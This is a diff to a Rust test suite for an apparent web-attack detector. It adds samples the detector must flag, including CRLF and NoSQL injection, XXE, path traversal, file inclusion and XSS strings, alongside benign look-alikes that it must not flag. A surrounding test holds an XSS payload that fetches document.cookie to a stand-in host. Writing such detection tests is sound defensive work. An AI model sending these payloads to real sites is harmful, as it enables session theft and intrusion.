@@ -80,6 +80,55 @@ fn look_alikes_are_left_alone() {
 }
 
 #[test]
+fn what_patterns_know_is_flagged_and_what_only_looks_like_it_is_not() {
+    let known = json!({"authorization": "Bearer abcdefghijk"});
+    let schema = json!({"query": "query IntrospectionQuery { __schema { types { name } } }"});
+    let xml = |from: &str| format!("<a xmlns:xsi='x' xsi:schemaLocation=\"{from}\"><b>1</b></a>");
+    let attacks = [
+        (json!({"path": "/shop/list.jsp.bak"}), "sensitive_file"),
+        (json!({"path": "/index.php~"}), "sensitive_file"),
+        (json!({"path": "/lib/connect.inc"}), "sensitive_file"),
+        (json!({"path": "/blog/wp-admin/", "status": 404}), "scan_probe"),
+        (json!({"path": "/administrator", "status": 404}), "scan_probe"),
+        (query("sqlmap/1.7 (https://sqlmap.example)"), "scanner"),
+        (query("Nuclei - Open-source scanner"), "scanner"),
+        (query("a%0d%0aRCPT TO:<eve@h.example>"), "crlf_injection"),
+        (query("1;db.users.insert({a:1})"), "nosql_injection"),
+        (json!({"path": "/graphql", "body": schema.clone()}), "scan_probe"),
+        (json!({"path": "/", "body": xml("http://h.example/x http://h.example/x.xsd")}), "xxe"),
+        (json!({"path": "/", "query": "page=../a.php%00.jpg"}), "path_traversal"),
+        (json!({"path": "/", "query": "page=http://h.example/cmd.txt?"}), "file_inclusion"),
+        (query("alert.call(window,1)"), "xss"),
+        (query("x onmouseover=prompt(1)"), "xss"),
+    ];
+    let ordinary = [
+        json!({"path": "/~ada/"}),
+        json!({"path": "/api/files.copy", "method": "POST"}),
+        json!({"path": "/scripts/wrap.backup/main.py"}),
+        json!({"path": "/threshold/old"}),
+        json!({"path": "/wp-login.php", "status": 200}),
+        query("how hydra and burp are spelled, and the nuclei of cells"),
+        json!({"path": "/", "body": {"text": "Data\r\nI quit.\r\nmail from my mother"}}),
+        query("the db.users collection"),
+        json!({"path": "/graphql", "body": schema, "headers": known}),
+        json!({"path": "/", "body": xml("http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/a.xsd")}),
+        json!({"path": "/", "query": "page=https://example.org/a%3Fb=1&file=photo.jpg"}),
+        query("alert me; please confirm (twice) by mail"),
+        query("online = yes"),
+    ];
+    let rows = attacks.iter().map(|(body, _)| body).chain(&ordinary).cloned().collect();
+    let scored = score(rows);
+    let (found, left) = scored.split_at(attacks.len());
+    for ((body, category), scored) in attacks.iter().zip(found) {
+        assert!(level(scored).is_flagged(), "{body} {scored}");
+        assert_eq!(scored["category"], *category, "{body} {scored}");
+    }
+    for (body, scored) in ordinary.iter().zip(left) {
+        assert!(!level(scored).is_flagged(), "{body} {scored}");
+    }
+}
+
+#[test]
 fn padding_does_not_hide_an_attack() {
     let filler = "An ordinary sentence, with (brackets); and marks. ".repeat(200);
     let text = format!("{filler}<script>fetch('//h/'+document.cookie)</script>{filler}");
@@ -104,6 +153,13 @@ fn a_client_that_misbehaves_is_told_with_its_counter() {
     assert_eq!(stuffing.last().unwrap()["category"], "credential_stuffing");
     let numbers = score((0..20).map(|n| call(n * 4, format!("/api/users/{n}"), 200)).collect());
     assert_eq!(numbers.last().unwrap()["category"], "id_enumeration");
+    let taken = score((0..20).map(|n| call(n, format!("/api/users/x{}", n * 7919 % 1000), 200)).collect());
+    assert_eq!(taken.last().unwrap()["category"], "scraping", "{taken:?}");
+    let tried = ["/wp/wp-login.php", "/typo3/", "/bitrix/admin"].into_iter().zip(0..);
+    let tried = score(tried.map(|(path, n)| call(n, path.to_owned(), 403)).collect());
+    assert!(level(tried.last().unwrap()).is_flagged(), "{tried:?}");
+    let reader = score((0..20).map(|n| call(n * 9, format!("/news/x{}", n * 7919 % 1000), 200)).collect());
+    assert!(reader.iter().all(|row| !level(row).is_flagged()), "{reader:?}");
     let office = score((0..60).map(|n| call(n * 3, format!("/page-{}", n % 7), 200)).collect());
     assert!(office.iter().all(|row| !level(row).is_flagged()));
 }
